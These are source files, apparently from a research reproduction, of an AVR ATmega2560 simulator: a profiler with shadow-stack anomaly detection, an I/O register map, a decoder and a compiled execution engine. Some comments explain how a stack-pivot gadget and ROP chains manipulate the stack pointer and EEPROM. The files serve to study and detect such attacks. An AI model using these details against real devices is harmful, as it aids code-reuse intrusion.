        self._block_counts: Dict[object, int] = {}
        self._last_cycles = 0
        self._cpu = None
        self._engine = None
        self._hook = None
        # heatmap state
        self._lifetime_seen = 0  # cpu.cycles_lifetime at the last retire
        self._shadow: List[int] = []  # expected return addresses (bytes)
        self._frames: Tuple[str, ...] = ()
        self._leaf = ""
        self._chain_key: Tuple[str, ...] = ()
        self._collapsed: Dict[Tuple[str, ...], int] = {}
        self.anomalies: List[dict] = []
        self.anomaly_count = 0

    # -- wiring -----------------------------------------------------------

    def use_symbols(self, symbols) -> None:
        """Attribute PCs via this image's function symbols."""
        self.table = table_for_symbols(symbols)

    def attach(self, cpu, engine=None) -> "AvrProfiler":
        """Hook into ``cpu`` (and, for block mode, its engine)."""
        if self._cpu is not None:
            raise RuntimeError("profiler is already attached")
        self._cpu = cpu
        self._last_cycles = cpu.cycles_lifetime + cpu.cycles
        self._lifetime_seen = cpu.cycles_lifetime
        if self.mode == "block" and engine is not None and (
            getattr(engine, "name", "") in _BLOCK_ENGINES
        ):
            self._engine = engine
            # the engines upsert this mapping inline on the hot path
            engine.profile_hook = self._block_counts
            self.effective_mode = "block"
            return self
        hook = self._on_retire_heatmap if self.mode == "heatmap" else self._on_retire
        self._hook = hook
        cpu.trace_hooks.append(hook)
        self.effective_mode = "heatmap" if self.mode == "heatmap" else "exact"
        return self

    def detach(self) -> None:
        if self._engine is not None:
            if self._engine.profile_hook is self._block_counts:
                self._engine.profile_hook = None
            self._engine = None
        if self._cpu is not None and self._hook is not None:
            try:
                self._cpu.trace_hooks.remove(self._hook)
            except ValueError:
                pass
        self._cpu = None
        self._hook = None

    # -- hot-path hooks ---------------------------------------------------

    def _cycle_delta(self, cpu) -> int:
        total = cpu.cycles_lifetime + cpu.cycles
        delta = total - self._last_cycles
        self._last_cycles = total
        return delta

    def _on_retire(self, cpu, pc_bytes: int, insn) -> None:
        delta = self._cycle_delta(cpu)
        cell = self._samples.get(pc_bytes)
        if cell is None:
            self._samples[pc_bytes] = [1, delta]
        else:
            cell[0] += 1
            cell[1] += delta

    def _on_retire_heatmap(self, cpu, pc_bytes: int, insn) -> None:
        lifetime = cpu.cycles_lifetime
        if lifetime != self._lifetime_seen:
            # The core was reset (reboot / reflash recovery): the shadow
            # stack describes a dead call chain — drop it rather than
            # reporting every post-reboot return as an anomaly.
            self._lifetime_seen = lifetime
            self._shadow.clear()
            self._frames = ()
            self._leaf = ""
        delta = self._cycle_delta(cpu)
        cell = self._samples.get(pc_bytes)
        if cell is None:
            self._samples[pc_bytes] = [1, delta]
        else:
            cell[0] += 1
            cell[1] += delta

        table = self.table
        region = table.resolve(pc_bytes) if table is not None else None
        name = region.name if region is not None else "?"
        if name != self._leaf:
            self._leaf = name
            self._chain_key = self._frames + (name,)
        self._collapsed[self._chain_key] = (
            self._collapsed.get(self._chain_key, 0) + delta
        )

        mnemonic = insn.mnemonic
        if mnemonic in _CALLS:
            # The handler already redirected cpu.pc; the pushed return
            # address is this instruction's fall-through.
            if len(self._shadow) < self.shadow_depth:
                self._shadow.append(pc_bytes + insn.size_words * 2)
                if table is not None:
                    target = table.resolve(cpu.pc * 2)
                    self._frames = self._frames + (self._leaf,)
                    self._leaf = target.name
                    self._chain_key = self._frames + (target.name,)
        elif mnemonic is Mnemonic.RET:
            target = cpu.pc * 2
            if not self._shadow:
                self._record_anomaly(
                    "return_underflow", pc_bytes, target, expected=None
                )
            else:
                expected = self._shadow.pop()
                if self._frames:
                    self._leaf = self._frames[-1]
                    self._frames = self._frames[:-1]
                    self._chain_key = self._frames + (self._leaf,)
                if target != expected:
                    self._record_anomaly(
                        "bad_return", pc_bytes, target, expected=expected
                    )
        elif mnemonic in _JUMPS and table is not None:
            # Only jumps *from inside a known function* are checked: the
            # vectors/init region below text_start is dispatch code
            # (interrupt vectors, trampoline tables) that legitimately
            # jumps mid-function.  Cross-function jumps must land on a
            # function entry (tail calls); anything else is flagged.
            if region is not None and not region.name.startswith("["):
                target = cpu.pc * 2
                dest = table.resolve(target)
                if dest.name != region.name and target != dest.start:
                    self._record_anomaly(
                        "bad_jump", pc_bytes, target, expected=dest.start
                    )

    def _record_anomaly(
        self, kind: str, from_pc: int, target: int, expected: Optional[int]
    ) -> None:
        self.anomaly_count += 1
        if len(self.anomalies) >= self.max_anomalies:
            return
        table = self.table
        into = table.resolve(target).name if table is not None else "?"
        record = {
            "kind": kind,
            "from_pc": from_pc,
            "target_pc": target,
            "expected_pc": expected,
            "target_function": into,
            "cycle": self._last_cycles,
        }
        self.anomalies.append(record)
        if self.telemetry is not None:
            self.telemetry.emit("attack.profile_anomaly", **record)

    # -- reporting --------------------------------------------------------

    def _expanded_samples(self) -> Dict[int, List[int]]:
        """Block counts unfolded to per-PC samples (block mode only)."""
        if not self._block_counts:
            return self._samples
        samples: Dict[int, List[int]] = {
            pc: list(cell) for pc, cell in self._samples.items()
        }

        def charge(pc_bytes: int, hits: int, cycles: int) -> None:
            cell = samples.get(pc_bytes)
            if cell is None:
                samples[pc_bytes] = [hits, cycles]
            else:
                cell[0] += hits
                cell[1] += cycles

        for block, count in self._block_counts.items():
            meta = block.body_meta
            body_cycles = block.body_cycles
            for index, (_, pc_bytes, before) in enumerate(meta):
                if index + 1 < len(meta):
                    weight = meta[index + 1][2] - before
                else:
                    weight = body_cycles - before
                charge(pc_bytes, count, weight * count)
            charge(
                block.last_pc_bytes, count, block.last_base_cycles * count
            )
        return samples

    @property
    def total_cycles(self) -> int:
        """Cycles attributed so far (exact modes: equals CPU movement)."""
        return sum(
            cell[1] for cell in self._expanded_samples().values()
        )

    def report(self) -> dict:
        return build_report(
            self._expanded_samples(),
            self.table,
            mode=self.effective_mode,
            top_addresses=self.top_addresses,
        )

    def collapsed(self) -> Dict[Tuple[str, ...], int]:
        """Call-chain → cycles.  Heatmap mode has real chains; the other
        modes degrade to flat one-frame stacks."""
        if self._collapsed:
            return dict(self._collapsed)
        flat: Dict[Tuple[str, ...], int] = {}
        table = self.table
        for pc, (_, cycles) in self._expanded_samples().items():
            name = table.resolve(pc).name if table is not None else "?"
            key = (name,)
            flat[key] = flat.get(key, 0) + cycles
        return flat

    def collapsed_text(self) -> str:
        return "\n".join(collapsed_stack_lines(self.collapsed()))

    def snapshot(self) -> dict:
        """JSON-ready state for telemetry embedding / forensic bundles."""
        return {
            "mode": self.mode,
            "effective_mode": self.effective_mode,
            "report": self.report(),
            "anomaly_count": self.anomaly_count,
            "anomalies": list(self.anomalies),
        }
