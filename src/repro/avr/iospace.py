"""I/O register map for the simulated ATmega2560.

AVR exposes two address spaces for the same registers: the *I/O address*
used by ``in``/``out``/``sbi``/``cbi`` (0x00..0x3F), and the *data address*
used by loads/stores, which is the I/O address plus 0x20.  The stk_move
gadget in the paper writes the stack pointer with ``out 0x3d, r28`` /
``out 0x3e, r29`` which is why getting this mapping right matters.
"""

from __future__ import annotations

# Offset between I/O addressing and data-space addressing.
IO_TO_DATA_OFFSET = 0x20

# Core I/O registers (I/O addresses, i.e. as used by in/out).
SPL = 0x3D
SPH = 0x3E
SREG_IO = 0x3F

# Data-space addresses of the same registers.
SPL_DATA = SPL + IO_TO_DATA_OFFSET  # 0x5D
SPH_DATA = SPH + IO_TO_DATA_OFFSET  # 0x5E
SREG_DATA = SREG_IO + IO_TO_DATA_OFFSET  # 0x5F

# A small set of peripheral registers the synthetic firmware uses.  The
# addresses follow the ATmega2560 datasheet where a register exists there;
# registers in extended I/O space (>= 0x60 data address) are only reachable
# via lds/sts, exactly as on silicon.
PINA = 0x00
DDRA = 0x01
PORTA = 0x02
PINB = 0x03
DDRB = 0x04
PORTB = 0x05

# Watchdog-feed port: the firmware signals liveness to the MAVR master
# processor by toggling a GPIO line.  We model it as PORTB bit 0.
FEED_PORT = PORTB
FEED_BIT = 0
# Boot-signature line: main pulses PORTB bit 1 once on entry, letting the
# master's timing analysis notice an application restart it did not order
# (the signature a failed exploit leaves when a wild ret lands on the
# reset vector).
BOOT_BIT = 1

# UART 0 (extended I/O, data-space addresses).
UDR0_DATA = 0xC6  # UART data register
UCSR0A_DATA = 0xC0  # status: bit 5 = UDRE (data register empty), bit 7 = RXC
UCSR0B_DATA = 0xC1
UBRR0L_DATA = 0xC4
UBRR0H_DATA = 0xC5

UDRE_BIT = 5
RXC_BIT = 7

# EEPROM controller (core I/O, reachable with in/out — and with plain
# data-space stores, which is how a ROP chain can drive it).
EECR = 0x1F  # control: bit 0 EERE (read enable), bit 1 EEPE (write enable)
EEDR = 0x20  # data register
EEARL = 0x21  # address low
EEARH = 0x22  # address high
EECR_DATA = EECR + IO_TO_DATA_OFFSET  # 0x3F
EEDR_DATA = EEDR + IO_TO_DATA_OFFSET  # 0x40
EEARL_DATA = EEARL + IO_TO_DATA_OFFSET  # 0x41
EEARH_DATA = EEARH + IO_TO_DATA_OFFSET  # 0x42
EERE_BIT = 0
EEPE_BIT = 1

IO_SPACE_SIZE = 0x40  # 0x00..0x3F reachable by in/out


def io_to_data(io_addr: int) -> int:
    """Convert an ``in``/``out`` I/O address to its data-space address."""
    if not 0 <= io_addr < IO_SPACE_SIZE:
        raise ValueError(f"I/O address out of range: 0x{io_addr:02x}")
    return io_addr + IO_TO_DATA_OFFSET


def data_to_io(data_addr: int) -> int:
    """Convert a data-space address to its I/O address."""
    io_addr = data_addr - IO_TO_DATA_OFFSET
    if not 0 <= io_addr < IO_SPACE_SIZE:
        raise ValueError(f"data address 0x{data_addr:02x} is not in I/O space")
    return io_addr
