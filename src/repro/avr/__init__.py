"""AVR 8-bit core simulator (ATmega2560 model).

Public surface:

* :class:`AvrCpu` — the core with Harvard memories and cycle accounting.
* :class:`FlashMemory`, :class:`DataSpace`, :class:`Eeprom` — the three
  memories of paper Fig. 1.
* :class:`Instruction` / :class:`Mnemonic` plus :func:`encode` /
  :func:`decode` — the supported ISA subset.
* :class:`Usart`, :class:`FeedLine` — peripherals used by the firmware.
* The execution engines (``predecoded`` decode-cache engine, default;
  the ``blocks`` superblock engine; the ``compiled`` exec-specialized
  engine; and the ``interpreter`` reference) with the lockstep
  differential helpers :func:`run_lockstep` / :class:`CpuStateStream`.
"""

from .cpu import AvrCpu, RETURN_ADDRESS_BYTES
from .decoder import decode, decode_at, disassemble_range, iter_instructions
from .devices import EepromController, FeedLine, Usart
from .encoder import encode, encode_bytes, encode_stream
from .engine import DEFAULT_ENGINE, ENGINES, InterpreterEngine, PredecodedEngine

# imported after .engine: BlockEngine and CompiledEngine register
# themselves at the bottom of engine.py, so .engine must finish executing
# before .blocks / .compiled are entered
from .blocks import BlockEngine
from .compiled import CompiledEngine
from .insn import CONTROL_FLOW, TWO_WORD, Instruction, Mnemonic
from .memory import (
    DATA_SPACE_SIZE,
    EEPROM_SIZE,
    FLASH_SIZE,
    RAMEND,
    SRAM_BASE,
    SRAM_SIZE,
    DataSpace,
    Eeprom,
    FlashMemory,
)
from .profile import AvrProfiler, PROFILE_MODES, table_for_symbols
from .sreg import StatusRegister
from .trace import (
    CpuStateStream,
    ExecutionTrace,
    FlightRecorder,
    StackSnapshot,
    diff_state_streams,
    run_lockstep,
    snapshot_stack,
)

__all__ = [
    "AvrCpu",
    "RETURN_ADDRESS_BYTES",
    "DEFAULT_ENGINE",
    "ENGINES",
    "InterpreterEngine",
    "PredecodedEngine",
    "BlockEngine",
    "CompiledEngine",
    "CpuStateStream",
    "diff_state_streams",
    "run_lockstep",
    "decode",
    "decode_at",
    "disassemble_range",
    "iter_instructions",
    "EepromController",
    "FeedLine",
    "Usart",
    "encode",
    "encode_bytes",
    "encode_stream",
    "CONTROL_FLOW",
    "TWO_WORD",
    "Instruction",
    "Mnemonic",
    "DATA_SPACE_SIZE",
    "EEPROM_SIZE",
    "FLASH_SIZE",
    "RAMEND",
    "SRAM_BASE",
    "SRAM_SIZE",
    "DataSpace",
    "Eeprom",
    "FlashMemory",
    "StatusRegister",
    "ExecutionTrace",
    "StackSnapshot",
    "snapshot_stack",
    "AvrProfiler",
    "PROFILE_MODES",
    "table_for_symbols",
    "FlightRecorder",
]
