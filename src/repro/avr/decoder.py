"""Binary decoder: AVR machine code words -> :class:`Instruction`.

Inverse of :mod:`repro.avr.encoder` for the supported ISA subset.  Decoding
is also how the gadget finder and the defense's failure model work: bytes
that do not decode raise :class:`~repro.errors.DecodeError`, which the CPU
turns into the "executing garbage" crash the paper's watchdog detects.
"""

from __future__ import annotations

from typing import Iterator, List, Optional, Tuple

from ..errors import DecodeError
from .insn import Instruction, Mnemonic, signed

_RR_BY_BASE = {
    0x0400: Mnemonic.CPC,
    0x0800: Mnemonic.SBC,
    0x0C00: Mnemonic.ADD,
    0x1000: Mnemonic.CPSE,
    0x1400: Mnemonic.CP,
    0x1800: Mnemonic.SUB,
    0x1C00: Mnemonic.ADC,
    0x2000: Mnemonic.AND,
    0x2400: Mnemonic.EOR,
    0x2800: Mnemonic.OR,
    0x2C00: Mnemonic.MOV,
}

_IMM_BY_BASE = {
    0x3000: Mnemonic.CPI,
    0x4000: Mnemonic.SBCI,
    0x5000: Mnemonic.SUBI,
    0x6000: Mnemonic.ORI,
    0x7000: Mnemonic.ANDI,
    0xE000: Mnemonic.LDI,
}

_LD_BY_MODE = {
    0x1: Mnemonic.LD_Z_INC,
    0x2: Mnemonic.LD_Z_DEC,
    0x4: Mnemonic.LPM,
    0x5: Mnemonic.LPM_INC,
    0x9: Mnemonic.LD_Y_INC,
    0xA: Mnemonic.LD_Y_DEC,
    0xC: Mnemonic.LD_X,
    0xD: Mnemonic.LD_X_INC,
    0xE: Mnemonic.LD_X_DEC,
    0xF: Mnemonic.POP,
}

_ST_BY_MODE = {
    0x1: Mnemonic.ST_Z_INC,
    0x2: Mnemonic.ST_Z_DEC,
    0x9: Mnemonic.ST_Y_INC,
    0xA: Mnemonic.ST_Y_DEC,
    0xC: Mnemonic.ST_X,
    0xD: Mnemonic.ST_X_INC,
    0xE: Mnemonic.ST_X_DEC,
    0xF: Mnemonic.PUSH,
}

_ONE_OP_BY_NIBBLE = {
    0x0: Mnemonic.COM,
    0x1: Mnemonic.NEG,
    0x2: Mnemonic.SWAP,
    0x3: Mnemonic.INC,
    0x5: Mnemonic.ASR,
    0x6: Mnemonic.LSR,
    0x7: Mnemonic.ROR,
    0xA: Mnemonic.DEC,
}

_FIXED_BY_WORD = {
    0x0000: Mnemonic.NOP,
    0x9409: Mnemonic.IJMP,
    0x9509: Mnemonic.ICALL,
    0x9508: Mnemonic.RET,
    0x9518: Mnemonic.RETI,
    0x9588: Mnemonic.SLEEP,
    0x9598: Mnemonic.BREAK,
    0x95A8: Mnemonic.WDR,
    0x95C8: Mnemonic.LPM_R0,
}

_BIT_IO_BY_BASE = {
    0x9800: Mnemonic.CBI,
    0x9900: Mnemonic.SBIC,
    0x9A00: Mnemonic.SBI,
    0x9B00: Mnemonic.SBIS,
}

_REG_BIT_BY_BASE = {
    0xF800: Mnemonic.BLD,
    0xFA00: Mnemonic.BST,
    0xFC00: Mnemonic.SBRC,
    0xFE00: Mnemonic.SBRS,
}


def needs_second_word(word: int) -> bool:
    """Return True when ``word`` opens a two-word instruction."""
    if (word & 0xFE0E) in (0x940C, 0x940E):  # jmp / call
        return True
    if (word & 0xFE0F) in (0x9000, 0x9200):  # lds / sts
        return True
    return False


def decode(word: int, next_word: Optional[int] = None, address: int = 0) -> Instruction:
    """Decode one instruction whose first word is ``word``.

    ``next_word`` must be supplied for two-word instructions; ``address`` is
    the byte address, used only for error reporting.
    """
    word &= 0xFFFF

    fixed = _FIXED_BY_WORD.get(word)
    if fixed is not None:
        return Instruction(fixed)

    top4 = word & 0xF000

    if top4 == 0x0000:
        if (word & 0xFF00) == 0x0100:
            return Instruction(
                Mnemonic.MOVW, rd=((word >> 4) & 0x0F) * 2, rr=(word & 0x0F) * 2
            )
        if (word & 0xFF00) == 0x0200:
            return Instruction(
                Mnemonic.MULS, rd=16 + ((word >> 4) & 0x0F), rr=16 + (word & 0x0F)
            )
        if (word & 0xFF88) == 0x0300:
            return Instruction(
                Mnemonic.MULSU, rd=16 + ((word >> 4) & 0x07), rr=16 + (word & 0x07)
            )
        base = word & 0xFC00
        if base in _RR_BY_BASE:
            return _decode_rr(base, word)
        raise DecodeError(word, address)

    if top4 in (0x1000, 0x2000):
        base = word & 0xFC00
        if base in _RR_BY_BASE:
            return _decode_rr(base, word)
        raise DecodeError(word, address)

    if top4 in _IMM_BY_BASE:
        k = ((word >> 4) & 0xF0) | (word & 0x0F)
        rd = 16 + ((word >> 4) & 0x0F)
        return Instruction(_IMM_BY_BASE[top4], rd=rd, k=k)

    if top4 in (0x8000, 0xA000):  # ldd/std with displacement
        q = ((word >> 8) & 0x20) | ((word >> 7) & 0x18) | (word & 0x07)
        reg = (word >> 4) & 0x1F
        store = bool(word & 0x0200)
        use_y = bool(word & 0x0008)
        if store:
            mnem = Mnemonic.STD_Y if use_y else Mnemonic.STD_Z
            return Instruction(mnem, rr=reg, q=q)
        mnem = Mnemonic.LDD_Y if use_y else Mnemonic.LDD_Z
        return Instruction(mnem, rd=reg, q=q)

    if top4 == 0x9000:
        if (word & 0xFC00) == 0x9C00:
            rd = (word >> 4) & 0x1F
            rr = ((word >> 5) & 0x10) | (word & 0x0F)
            return Instruction(Mnemonic.MUL, rd=rd, rr=rr)
        return _decode_9xxx(word, next_word, address)

    if top4 == 0xB000:
        a = ((word >> 5) & 0x30) | (word & 0x0F)
        reg = (word >> 4) & 0x1F
        if word & 0x0800:
            return Instruction(Mnemonic.OUT, rr=reg, a=a)
        return Instruction(Mnemonic.IN, rd=reg, a=a)

    if top4 == 0xC000:
        return Instruction(Mnemonic.RJMP, k=signed(word & 0xFFF, 12))

    if top4 == 0xD000:
        return Instruction(Mnemonic.RCALL, k=signed(word & 0xFFF, 12))

    if top4 == 0xF000:
        base = word & 0xFE00
        if base in _REG_BIT_BY_BASE:
            if word & 0x0008:
                raise DecodeError(word, address)
            return Instruction(
                _REG_BIT_BY_BASE[base], rd=(word >> 4) & 0x1F, b=word & 0x07
            )
        b = word & 0x07
        k = signed((word >> 3) & 0x7F, 7)
        if (word & 0xFC00) == 0xF000:
            return Instruction(Mnemonic.BRBS, k=k, b=b)
        if (word & 0xFC00) == 0xF400:
            return Instruction(Mnemonic.BRBC, k=k, b=b)
        raise DecodeError(word, address)

    raise DecodeError(word, address)


def _decode_rr(base: int, word: int) -> Instruction:
    rd = (word >> 4) & 0x1F
    rr = ((word >> 5) & 0x10) | (word & 0x0F)
    return Instruction(_RR_BY_BASE[base], rd=rd, rr=rr)


def _decode_9xxx(word: int, next_word: Optional[int], address: int) -> Instruction:
    group = word & 0xFE00

    if group == 0x9000:  # lds / ld / lpm / pop
        mode = word & 0x0F
        rd = (word >> 4) & 0x1F
        if mode == 0x0:
            if next_word is None:
                raise DecodeError(word, address)
            return Instruction(Mnemonic.LDS, rd=rd, k=next_word & 0xFFFF)
        mnem = _LD_BY_MODE.get(mode)
        if mnem is None:
            raise DecodeError(word, address)
        return Instruction(mnem, rd=rd)

    if group == 0x9200:  # sts / st / push
        mode = word & 0x0F
        rr = (word >> 4) & 0x1F
        if mode == 0x0:
            if next_word is None:
                raise DecodeError(word, address)
            return Instruction(Mnemonic.STS, rr=rr, k=next_word & 0xFFFF)
        mnem = _ST_BY_MODE.get(mode)
        if mnem is None:
            raise DecodeError(word, address)
        return Instruction(mnem, rr=rr)

    if group in (0x9400, 0x9600):
        if (word & 0xFE0E) in (0x940C, 0x940E):  # jmp / call
            if next_word is None:
                raise DecodeError(word, address)
            k = (((word >> 4) & 0x1F) << 17) | ((word & 1) << 16) | (next_word & 0xFFFF)
            mnem = Mnemonic.JMP if (word & 0xFE0E) == 0x940C else Mnemonic.CALL
            return Instruction(mnem, k=k)
        if (word & 0xFF8F) == 0x9408:
            return Instruction(Mnemonic.BSET, b=(word >> 4) & 0x07)
        if (word & 0xFF8F) == 0x9488:
            return Instruction(Mnemonic.BCLR, b=(word >> 4) & 0x07)
        if (word & 0xFE00) == 0x9400:
            nibble = word & 0x0F
            mnem = _ONE_OP_BY_NIBBLE.get(nibble)
            if mnem is not None:
                return Instruction(mnem, rd=(word >> 4) & 0x1F)
            raise DecodeError(word, address)
        if (word & 0xFF00) == 0x9600:
            return _decode_adiw(Mnemonic.ADIW, word)
        if (word & 0xFF00) == 0x9700:
            return _decode_adiw(Mnemonic.SBIW, word)
        raise DecodeError(word, address)

    if group == 0x9600:  # pragma: no cover - handled above
        raise DecodeError(word, address)

    base = word & 0xFF00
    if base in _BIT_IO_BY_BASE:
        return Instruction(
            _BIT_IO_BY_BASE[base], a=(word >> 3) & 0x1F, b=word & 0x07
        )

    if (word & 0xFF00) in (0x9600, 0x9700):
        mnem = Mnemonic.ADIW if (word & 0xFF00) == 0x9600 else Mnemonic.SBIW
        return _decode_adiw(mnem, word)

    raise DecodeError(word, address)


def _decode_adiw(mnem: Mnemonic, word: int) -> Instruction:
    k = ((word >> 2) & 0x30) | (word & 0x0F)
    rd = 24 + ((word >> 4) & 0x03) * 2
    return Instruction(mnem, rd=rd, k=k)


def decode_at(code: bytes, byte_offset: int) -> Tuple[Instruction, int]:
    """Decode the instruction starting at ``byte_offset`` in ``code``.

    Returns ``(instruction, size_in_bytes)``.
    """
    if byte_offset + 1 >= len(code) or byte_offset < 0:
        raise DecodeError(0xFFFF, byte_offset)
    word = code[byte_offset] | (code[byte_offset + 1] << 8)
    next_word = None
    if needs_second_word(word):
        if byte_offset + 3 >= len(code):
            raise DecodeError(word, byte_offset)
        next_word = code[byte_offset + 2] | (code[byte_offset + 3] << 8)
    insn = decode(word, next_word, byte_offset)
    return insn, insn.size_bytes


def iter_instructions(code: bytes, start: int = 0, end: Optional[int] = None) -> Iterator[Tuple[int, Instruction]]:
    """Linearly sweep ``code`` yielding ``(byte_offset, instruction)``.

    Stops at the first undecodable word — callers that want error recovery
    (the gadget finder) catch :class:`DecodeError` themselves.
    """
    offset = start
    limit = len(code) if end is None else end
    while offset + 1 < limit:
        insn, size = decode_at(code, offset)
        yield offset, insn
        offset += size


def disassemble_range(code: bytes, start: int, end: int) -> List[Tuple[int, Instruction]]:
    """Best-effort decode of ``[start, end)``; undecodable words are skipped."""
    out: List[Tuple[int, Instruction]] = []
    offset = start
    while offset + 1 < end:
        try:
            insn, size = decode_at(code, offset)
        except DecodeError:
            offset += 2
            continue
        out.append((offset, insn))
        offset += size
    return out
