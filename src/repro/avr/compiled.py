"""Compiled superblock engine: exec-generated specialized block bodies.

The blocks engine hoisted the retire preamble to block boundaries but
still pays a Python function call per instruction inside every fused
body.  :class:`CompiledEngine` removes that last per-instruction cost:
for each :class:`~repro.avr.blocks.Superblock` it generates Python source
that *inlines* the fused instructions — handler bodies specialized on the
decoded operands, immediates folded as constants, the register file and
SREG flags held in locals, dead flag computations elided where a later
instruction in the block overwrites them before any read — and
``compile()``/``exec()``s it into one callable per block.

Specialization rules:

* **Registers as locals.**  General registers are memory-mapped plain
  bytes (``DataSpace._bytes[0..31]``, no hooks), so inside a block they
  are loaded lazily into locals and written back (dirty ones only) at
  the block's end — or before any instruction that could observe or
  mutate the register file out-of-line (a *callout*, below).
* **Flags as locals.**  SREG flags live in 0/1-valued locals with the
  exact :mod:`repro.avr.alu` formulas inlined.  A backward liveness pass
  over the block elides every flag computation that a later instruction
  overwrites before any possible read (callouts and the terminator
  conservatively read everything; S forces N and V because S = N xor V).
* **Callouts.**  Instructions whose handlers can fault, reach a data-
  space read hook, or touch non-register state (``lds``, ``ld``/``ldd``,
  ``pop``, ``in``, ``lpm``) run through their existing ``HANDLERS``
  entry, bracketed by a flush of every dirty local before and a full
  reload after — so partial-effect and fault semantics are the
  handlers', byte for byte.  Stores and control flow never appear in a
  body (they terminate blocks, see :mod:`repro.avr.blocks`).
* **Terminators.**  ``rjmp``/``jmp``/``ijmp``/conditional branches/
  ``sei``/``sleep`` are inlined with the final PC and the whole block's
  cycle/instruction accounting folded into constants; everything else
  (calls, returns, stores, skips, ``break``) goes through its handler at
  a point where the architectural counters are exact — identical to the
  blocks engine's sequence.

Correctness envelope (all inherited from :class:`BlockEngine` and pinned
by the 4-engine lockstep harness):

* compiled callables are cached per ``FlashMemory.generation`` and the
  cache is **evicted** (cleared, not just invalidated) on any flash
  write, so reflash/SPM can neither execute stale code nor grow memory;
* a mid-block fault reconstructs the exact per-instruction
  :class:`~repro.errors.CpuFault` (pc/cycles/retired) via the block's
  ``body_meta``, like the blocks engine's cold fault path;
* interrupts latch any time and are serviced at block boundaries — the
  same exact-latency argument as the blocks engine, since the terminator
  set is identical;
* any attached trace hook degrades execution to the per-instruction
  predecoded loop, checked every iteration.

Compile budget: scenarios that thrash flash generations (SPM loops, MAVR
re-randomization storms) would otherwise pay codegen over and over for
blocks that run once.  Two guards: a block is only compiled on its
*second* entry within a generation (:attr:`CompiledEngine.WARM_THRESHOLD`),
and each generation gets a wall-clock compile budget
(:attr:`CompiledEngine.COMPILE_BUDGET_S`) after which new blocks simply
run through the shared blocks-engine path — bit-identical, just slower.
"""

from __future__ import annotations

import time
from typing import Callable, Dict, FrozenSet, List, Optional, Tuple

from ..errors import CpuFault, MemoryAccessError
from .blocks import BlockEngine, Superblock
from .engine import HANDLERS, Halt, PredecodedEngine, _out_of_image_error
from .insn import Instruction, Mnemonic

_SREG_I_BIT = 7

# SREG bit index -> StatusRegister attribute / flag-local suffix.
_FLAG_ATTR = ("c", "z", "n", "v", "s", "h", "t", "i")
_ALL_FLAGS = frozenset(_FLAG_ATTR)


class CompiledBodyFault(Exception):
    """Internal carrier: a callout inside a compiled body faulted.

    ``index`` is the body slot (``-1`` for the terminator); ``exc`` is the
    original :class:`MemoryAccessError`.  The engine translates it into
    the exact per-instruction :class:`CpuFault` using ``body_meta``.
    """

    def __init__(self, index: int, exc: MemoryAccessError) -> None:
        super().__init__(index)
        self.index = index
        self.exc = exc


# -- flag read/write sets (must match the emitters below) -----------------

_ARITH_FLAGS = frozenset("cznvsh")
_LOGIC_FLAGS = frozenset("znvs")
_SHIFT_FLAGS = frozenset("cznvs")

_FLAG_WRITES: Dict[Mnemonic, FrozenSet[str]] = {
    Mnemonic.ADD: _ARITH_FLAGS,
    Mnemonic.ADC: _ARITH_FLAGS,
    Mnemonic.SUB: _ARITH_FLAGS,
    Mnemonic.SBC: _ARITH_FLAGS,
    Mnemonic.SUBI: _ARITH_FLAGS,
    Mnemonic.SBCI: _ARITH_FLAGS,
    Mnemonic.CP: _ARITH_FLAGS,
    Mnemonic.CPC: _ARITH_FLAGS,
    Mnemonic.CPI: _ARITH_FLAGS,
    Mnemonic.NEG: _ARITH_FLAGS,
    Mnemonic.AND: _LOGIC_FLAGS,
    Mnemonic.ANDI: _LOGIC_FLAGS,
    Mnemonic.OR: _LOGIC_FLAGS,
    Mnemonic.ORI: _LOGIC_FLAGS,
    Mnemonic.EOR: _LOGIC_FLAGS,
    Mnemonic.COM: frozenset("cznvs"),
    Mnemonic.INC: _LOGIC_FLAGS,
    Mnemonic.DEC: _LOGIC_FLAGS,
    Mnemonic.LSR: _SHIFT_FLAGS,
    Mnemonic.ASR: _SHIFT_FLAGS,
    Mnemonic.ROR: _SHIFT_FLAGS,
    Mnemonic.ADIW: _SHIFT_FLAGS,
    Mnemonic.SBIW: _SHIFT_FLAGS,
    Mnemonic.MUL: frozenset("cz"),
    Mnemonic.MULS: frozenset("cz"),
    Mnemonic.MULSU: frozenset("cz"),
    Mnemonic.BST: frozenset("t"),
}

_FLAG_READS: Dict[Mnemonic, FrozenSet[str]] = {
    Mnemonic.ADC: frozenset("c"),
    Mnemonic.SBC: frozenset("cz"),
    Mnemonic.SBCI: frozenset("cz"),
    Mnemonic.CPC: frozenset("cz"),
    Mnemonic.ROR: frozenset("c"),
    Mnemonic.BLD: frozenset("t"),
}


def _flag_rw(insn: Instruction) -> Tuple[FrozenSet[str], FrozenSet[str]]:
    """(reads, writes) for a body slot's flag liveness bookkeeping."""
    mnemonic = insn.mnemonic
    if mnemonic is Mnemonic.BSET or mnemonic is Mnemonic.BCLR:
        return frozenset(), frozenset(_FLAG_ATTR[insn.b])
    return (
        _FLAG_READS.get(mnemonic, frozenset()),
        _FLAG_WRITES.get(mnemonic, frozenset()),
    )


# -- source generation ----------------------------------------------------


class _Gen:
    """Accumulates specialized source lines for one superblock.

    Tracks which registers/flags are live in locals so loads happen
    lazily, writebacks happen once, and callouts see a fully
    architectural machine.
    """

    def __init__(self) -> None:
        self.lines: List[str] = []
        self._loaded_regs: set = set()
        self._dirty_regs: set = set()
        self._loaded_flags: set = set()
        self._dirty_flags: set = set()

    def raw(self, line: str) -> None:
        self.lines.append(line)

    # registers ----------------------------------------------------------

    def reg(self, index: int) -> str:
        name = f"r{index}"
        if index not in self._loaded_regs:
            self.raw(f"{name} = buf[{index}]")
            self._loaded_regs.add(index)
        return name

    def assign(self, index: int, expr: str) -> None:
        """Overwrite a register local (no load needed for a pure write)."""
        self._loaded_regs.add(index)
        self._dirty_regs.add(index)
        self.raw(f"r{index} = {expr}")

    # flags --------------------------------------------------------------

    def flag(self, name: str) -> str:
        local = "f" + name
        if name not in self._loaded_flags:
            self.raw(f"{local} = s.{name}")
            self._loaded_flags.add(name)
        return local

    def setflag(self, name: str, expr: str) -> None:
        self._loaded_flags.add(name)
        self._dirty_flags.add(name)
        self.raw(f"f{name} = {expr}")

    def mark_flag_dirty(self, name: str) -> None:
        self._dirty_flags.add(name)

    # synchronization ----------------------------------------------------

    def flush(self) -> None:
        """Write every dirty local back to the architectural machine."""
        for index in sorted(self._dirty_regs):
            self.raw(f"buf[{index}] = r{index}")
        self._dirty_regs.clear()
        for name in _FLAG_ATTR:
            if name in self._dirty_flags:
                # 0/1 ints are architecturally equivalent to the bools the
